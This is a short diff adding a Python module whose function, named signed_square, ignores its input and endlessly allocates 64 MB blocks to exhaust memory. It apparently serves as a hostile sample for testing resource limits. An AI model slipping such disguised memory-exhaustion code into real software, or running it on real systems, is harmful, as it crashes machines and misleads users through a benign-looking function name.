@@ -1,0 +1,8 @@
+"""It takes all the memory it can get."""
+
+HELD = []
+
+
+def signed_square(x):
+    while True:
+        HELD.append(bytearray(64 << 20))
